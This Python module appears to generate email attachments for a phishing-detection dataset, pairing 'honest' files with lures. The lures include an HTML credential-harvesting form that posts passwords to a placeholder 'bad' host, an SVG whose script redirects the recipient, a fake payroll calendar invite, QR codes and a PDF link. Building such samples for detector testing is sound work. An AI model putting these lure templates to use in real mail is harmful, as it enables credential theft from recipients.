"""Files that made mails carry: pages, pictures with codes, calendars, PDFs."""

from __future__ import annotations

import base64
import random


def attached(kind: str, words: dict[str, str], rng: random.Random) -> list[bytes]:
    """Return the file that a template names, as a part."""
    goal = f"https://{words['host']}/?e={words['email']}"
    if kind == "html":
        page = (
            f"<html><body><form action='https://{words['bad']}/post.php' method=post>"
            f"<img src='https://logo.clearbit.com/microsoft.com'><input name=u value='{words['email']}'>"
            "<input type=password name=p><input type=submit></form></body></html>"
        )
        return [_file(f"Document_{words['ref']}.html", "text/html", page.encode())]
    if kind == "svg":
        svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>window.location.href='{goal}'</script></svg>"
        return [_file(f"agreement_{words['ref']}.svg", "image/svg+xml", svg.encode())]
    if kind == "ics":
        text = f"Payroll update: confirm your details before the meeting at {goal}"
        return [_file("invite.ics", "text/calendar; method=REQUEST", _calendar(text, words))]
    if kind == "icshonest":
        return [
            _file(
                "invite.ics",
                "text/calendar; method=REQUEST",
                _calendar("Monthly review. https://us02web.zoom.us/j/81", words),
            )
        ]
    if kind in ("qr", "qrhonest"):
        import cv2

        text = goal if kind == "qr" else words["ref"].upper()
        picture = cv2.resize(cv2.QRCodeEncoder.create().encode(text), None, fx=6, fy=6, interpolation=cv2.INTER_NEAREST)
        return [_file("image001.png", "image/png", cv2.imencode(".png", picture)[1].tobytes())]
    if kind == "jpghonest":
        import cv2
        import numpy as np

        noise = np.random.default_rng(rng.randrange(10**6)).integers(0, 255, (300, 300), np.uint8)
        return [_file("carte.jpg", "image/jpeg", cv2.imencode(".jpg", noise)[1].tobytes())]
    link = (
        f"/Annots [<</Type /Annot /Subtype /Link /Rect [50 600 300 650] /A <</S /URI /URI ({goal})>>>>]"
        if kind == "pdflink"
        else ""
    )
    return [_file(f"document_{words['num']}.pdf", "application/pdf", _pdf(link))]


def _calendar(text: str, words: dict[str, str]) -> bytes:
    lines = (
        "BEGIN:VCALENDAR", "VERSION:2.0", "METHOD:REQUEST", "BEGIN:VEVENT", f"UID:{words['ref']}",
        "DTSTART:20260401T100000Z", f"SUMMARY:{text}", f"DESCRIPTION:{text}", "END:VEVENT", "END:VCALENDAR", "",
    )  # fmt: skip
    return "\r\n".join(lines).encode()


def _pdf(annots: str) -> bytes:
    body = b"BT /F1 12 Tf 60 700 Td (Document) Tj ET"
    objects = [
        b"<</Type /Catalog /Pages 2 0 R>>",
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        f"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R {annots}>>".encode(),
        b"<</Length %d>>\nstream\n%s\nendstream" % (len(body), body),
    ]
    out, places = bytearray(b"%PDF-1.5\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(out)
    out += (
        b"xref\n0 5\n0000000000 65535 f \n"
        + table
        + b"trailer\n<</Size 5 /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % start
    )
    return bytes(out)


def _file(name: str, media: str, raw: bytes) -> bytes:
    head = f'Content-Type: {media}; name="{name}"\r\nContent-Disposition: attachment; filename="{name}"\r\n'
    coded = base64.encodebytes(raw).replace(b"\n", b"\r\n")
    return head.encode() + b"Content-Transfer-Encoding: base64\r\n\r\n" + coded


__all__ = ["attached"]
